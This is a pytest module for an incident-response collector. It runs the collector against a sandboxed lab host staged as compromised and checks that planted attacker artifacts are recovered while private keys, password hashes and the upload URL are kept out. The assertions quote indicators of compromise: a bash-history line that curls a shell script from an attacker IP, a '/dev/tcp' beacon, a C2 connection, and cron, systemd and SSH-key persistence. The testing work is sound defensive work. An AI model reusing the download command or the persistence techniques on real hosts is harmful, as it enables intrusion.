"""The deeper Linux collector on the lab's sandboxed, compromised host (issue 16, issue 12).

One collection runs the real collector, through the SSM-agent substitute, inside the
web-compromise host (its own mount, PID and network namespaces, see ``ircli.lab.sandbox``),
uploads over the relayed loopback to the in-process moto server, and each test reads one
category of that archive: what the attacker planted must be there, and what must never be
collected (private keys, the upload URL, this machine's own files) must not.
"""

from __future__ import annotations

import hashlib
import io
import os
import subprocess
import tarfile
import uuid
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from ircli.lab.sandbox import SandboxedHost, namespaces_unavailable
from ircli.lab.scenarios import HOSTS
from ircli.liveresponse import documents as d
from ircli.liveresponse.agent import AgentSubstitute
from ircli.liveresponse.result import parse_result_line, verify_archive
from tests.liveresponse.conftest import reset_emulator

# One module-scoped collection on a process-wide emulator: its tests run together on one worker.
pytestmark = pytest.mark.xdist_group("liveresponse-lab-host")

INSTANCE = "i-0aaaabbbbccccdddd"
BUCKET = "ircli-lab-host-test"
NEW_SECTIONS = ("process_detail", "system_state", "storage", "findings", "keys", "etc",
                "integrity")


@pytest.fixture(scope="module")
def collected(moto_endpoint: str, s3: Any, ssm: Any,
              tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    reason = namespaces_unavailable()
    if reason is not None:
        pytest.skip(f"the sandboxed lab host cannot run here: {reason}")
    reset_emulator(moto_endpoint)
    s3.create_bucket(Bucket=BUCKET)
    ssm.create_document(Content=d.load_document_text("linux"), Name="ircli-lab-host-linux",
                        DocumentType="Command", DocumentFormat="YAML")
    key = f"cases/case-host/collect/{INSTANCE}.tar.gz"
    url = str(s3.generate_presigned_url("put_object", Params={"Bucket": BUCKET, "Key": key},
                                        ExpiresIn=600))
    cmd = ssm.send_command(InstanceIds=[INSTANCE], DocumentName="ircli-lab-host-linux",
                           Parameters={"CaseId": ["case-host"], "UploadUrl": [url],
                                       "MaxTotalMB": ["60"], "TimeoutSeconds": ["300"]})
    host = SandboxedHost(HOSTS["web-compromise"])
    sandbox_root = tmp_path_factory.mktemp("agent")
    agent = AgentSubstitute(ssm, instance_ids=[INSTANCE], host_for=lambda _iid: host,
                            sandbox_root=str(sandbox_root))
    [run] = [r for r in agent.run_once() if r.command_id == cmd["Command"]["CommandId"]]
    body = s3.get_object(Bucket=BUCKET, Key=key)["Body"].read()
    files: dict[str, bytes] = {}
    with tarfile.open(fileobj=io.BytesIO(body), mode="r:gz") as tar:
        for member in tar:
            f = tar.extractfile(member) if member.isfile() else None
            if f is not None:
                files[member.name] = f.read()
    assert host.last_run is not None
    return {"run": run, "result": parse_result_line(run.stdout), "body": body, "files": files,
            "planted": host.last_run.planted, "url": url, "sandbox_root": sandbox_root}


def text(collected: dict[str, Any], name: str) -> str:
    files: dict[str, bytes] = collected["files"]
    assert name in files, f"{name} missing; archive has {sorted(files)[:40]}…"
    return files[name].decode("utf-8", "replace")


def test_the_collection_is_complete_and_consistent(collected: dict[str, Any]) -> None:
    run, res = collected["run"], collected["result"]
    assert run.status == "Success" and res["status"] == "complete", (res, run.stderr[-2000:])
    assert res["host"] == "web-1" and "lab host web-1" in run.host
    report = verify_archive(collected["body"])
    assert report.problems == []
    log = {e["step"]: e for e in report.log}
    for name in (*NEW_SECTIONS, "integrity_full"):
        assert log[name]["exit_code"] == 0 and log[name]["timed_out"] is False, log[name]
        assert name == "integrity_full" or log[name]["files"] > 0, f"{name} collected nothing"


def test_the_collector_sees_only_the_scenario_host(collected: dict[str, Any]) -> None:
    table = text(collected, "processes/proc_table.tsv").splitlines()[1:]
    assert len(table) < 30, "the PID namespace holds only the host's few processes"
    assert not any("pytest" in row for row in table), "no process of this machine is listed"
    assert text(collected, "system/hostname.txt").strip() == "web-1"
    temp = [n for n in collected["files"] if n.startswith("temp_files/files/")]
    assert temp == [], f"the host's /tmp is empty after the implant deleted itself: {temp}"
    import gzip

    body = gzip.decompress(collected["files"]["filesystem/bodyfile.txt.gz"]).decode()
    assert "|/work/" not in body and "|/root/.ircli" not in body, "no file of this machine"
    assert "|/root/.ssh/authorized_keys|" in body, "the whole tree, streamed compressed"


def test_beacon_its_socket_and_its_deleted_executable_are_recovered(
        collected: dict[str, Any]) -> None:
    planted = collected["planted"]
    rows = [r.split("\t") for r in text(collected, "processes/proc_table.tsv").splitlines()[1:]]
    [beacon] = [r for r in rows if r[4] == "kworkerd"]
    pid = beacon[0]
    assert beacon[5] == "/tmp/kworkerd (deleted)"
    sockets = [r.split("\t") for r in text(collected, "sockets/sockets_proc.tsv").splitlines()]
    assert [s for s in sockets if s[2] == "185.220.101.66:443" and s[3] == "ESTABLISHED"
            and f"{pid}/kworkerd" in s[6]], "the beacon's connection to the C2, with its pid"
    assert [s for s in sockets if s[1] == "0.0.0.0:31337" and s[3] == "LISTEN"]
    recovered = collected["files"][f"processes/deleted_exe/{pid}.bin"]
    assert hashlib.sha256(recovered).hexdigest() == planted["beacon_sha256"]
    prefix = f"process_detail/deleted_memory/{pid}/"
    memory = [n for n in collected["files"] if n.startswith(prefix)]
    assert f"process_detail/deleted_memory/{pid}/maps.txt" in memory and len(memory) > 2
    assert any(n.endswith(".bin") for n in memory), "memory regions of the deleted image"
    strings = [n for n in collected["files"] if n.startswith(f"process_detail/strings/{pid}_")]
    assert strings and b"/dev/tcp" in collected["files"][strings[0]]


def test_replaced_binary_shows_in_package_integrity(collected: dict[str, Any]) -> None:
    assert collected["planted"].get("replaced_binary") == "/usr/bin/top", collected["planted"]
    assert "usr/bin/top: FAILED" in text(collected, "integrity/dpkg_verify_system.txt")
    full = text(collected, "integrity/package_verify_full.txt")
    assert "usr/bin/top: FAILED" in full.splitlines(), full[:2000]
    assert full.splitlines()[-1].startswith("# verified "), "says how much it checked"
    assert "Package: procps" in text(collected, "integrity/db/var/lib/dpkg/status")


def test_hidden_and_immutable_files_show_in_the_findings(collected: dict[str, Any]) -> None:
    hidden = [r.split("\t") for r in text(collected, "findings/hidden.tsv").splitlines()]
    assert any(r[0] == "d" and r[-1] == "/usr/lib/.kworkerd" for r in hidden), hidden[:20]
    unknown = [r.split("\t") for r in text(collected, "findings/unknown_owner.tsv").splitlines()]
    assert ["4242", "4242"] in [r[:2] for r in unknown if r[-1] == "/opt/.cache/kworkerd.log"]
    planted = collected["planted"]
    if "capability" in planted:
        assert "/usr/local/bin/kworkerd-net cap_net_admin,cap_net_raw=ep" in text(
            collected, "findings/capabilities.txt")
    if "immutable_refused" in planted:
        pytest.skip(f"the lab host's file system refused chattr +i: {planted['immutable_refused']}")
    immutable = text(collected, "findings/immutable_append.txt").splitlines()
    assert [line for line in immutable if line.split()[-1] == "/etc/cron.d/kworkerd"
            and "i" in line.split()[0]], immutable


def test_passphrase_less_key_is_reported_by_fingerprint_never_copied(
        collected: dict[str, Any]) -> None:
    planted = collected["planted"]
    fingerprint = planted["nopass_key"].split()[1]
    rows = [r.split("\t") for r in text(collected, "keys/no_passphrase.tsv").splitlines()]
    assert [r[0] for r in rows] == ["/root/.ssh/id_ed25519"]
    assert fingerprint in rows[0][2]
    keys = text(collected, "keys/private_keys.tsv")
    assert "/home/ubuntu/.ssh/id_ed25519\tset\t" in keys, "a protected key is listed as such"
    for name, content in collected["files"].items():
        assert b"PRIVATE KEY" not in content, f"{name} holds private key material"


def test_persistence_key_and_history_are_collected(collected: dict[str, Any]) -> None:
    files = collected["files"]
    cron = [n for n in files if n.endswith("/etc/cron.d/kworkerd")]
    assert cron and b"185.220.101.66" in files[cron[0]]
    assert [n for n in files if n.endswith("/etc/systemd/system/kworkerd.service")]
    [keys] = [n for n in files if n.endswith("root/.ssh/authorized_keys")
              and n.startswith("persistence/")]
    assert b"kworkerd@185.220.101.66" in files[keys]
    [history] = [n for n in files if n.endswith("root/.bash_history")]
    assert b"curl -fsS http://185.220.101.66/k.sh" in files[history]


def test_new_categories_hold_their_files(collected: dict[str, Any]) -> None:
    files = collected["files"]
    for name in ("system_state/sysctl.txt", "system_state/proc_sys_kernel_core_pattern.txt",
                 "system_state/module_parameters.tsv", "storage/findmnt.txt",
                 "process_detail/namespaces.tsv", "process_detail/children.tsv",
                 "process_detail/map_files.tsv", "etc/files/etc/passwd",
                 "etc/shadow_summary.txt", "integrity/python_packages.tsv"):
        assert name in files, name
    assert b"$" not in files["etc/shadow_summary.txt"], "no password hash, only yes/no"
    assert not [n for n in files if n.endswith("etc/shadow")], "password hashes never copied"
    mounts = [n for n in files if n.startswith("process_detail/mounts/")]
    assert len(mounts) == 1, "one mount namespace on the host, its mounts once"


def test_the_upload_url_never_reaches_the_archive(collected: dict[str, Any]) -> None:
    query = parse_qs(urlsplit(collected["url"]).query)
    secrets = [query[k][0].encode() for k in ("X-Amz-Signature", "X-Amz-Credential")
               if k in query]
    assert secrets, "the presigned URL carries a signature and a credential"
    for name, content in collected["files"].items():
        for secret in secrets:
            assert secret not in content, f"{name} holds the upload URL"
    assert "upload_url_from=fd" in text(collected, "collector/start.txt")


def test_no_process_of_the_host_outlives_the_command(collected: dict[str, Any]) -> None:
    assert collected["run"].status == "Success"
    named = subprocess.run(["pgrep", "-x", "kworkerd"], capture_output=True, text=True)
    # Other workers (and other runs on this machine) may host their own lab implant: only one
    # whose root is this host's chroot, inside this module's sandbox, is this host's leftover.
    ours = [pid for pid in named.stdout.split()
            if _root_of(pid).startswith(str(collected["sandbox_root"]))]
    assert ours == [], "the implant died with its PID namespace"


def _root_of(pid: str) -> str:
    try:
        return os.readlink(f"/proc/{pid}/root")
    except OSError:  # it has exited since pgrep saw it
        return ""


def test_a_command_past_its_timeout_takes_the_whole_host_down(tmp_path: Any) -> None:
    reason = namespaces_unavailable()
    if reason is not None:
        pytest.skip(f"the sandboxed lab host cannot run here: {reason}")
    marker = f"ircli-lab-timeout-{uuid.uuid4().hex[:8]}"
    script = f"/bin/bash -c 'exec -a {marker} /bin/sleep 300' & wait\n"
    run = SandboxedHost(HOSTS["web-compromise"]).run(
        script, {"PATH": "/usr/bin:/bin"}, tmp_path, tmp_path / "out", tmp_path / "err", 8)
    assert run.status == "TimedOut" and run.code == -1
    # Only this host's processes count: another worker's (or another run's) lab host may be
    # running its own implant and its own unshare at this moment.
    for pattern in (marker, "kworkerd", f"unshare --mount --pid .*{tmp_path}"):
        found = subprocess.run(["pgrep", "-f", pattern], capture_output=True, text=True)
        left = [pid for pid in found.stdout.split()
                if pattern != "kworkerd" or _root_of(pid).startswith(str(tmp_path))]
        assert left == [], f"{pattern} survived the host: pids {left}"
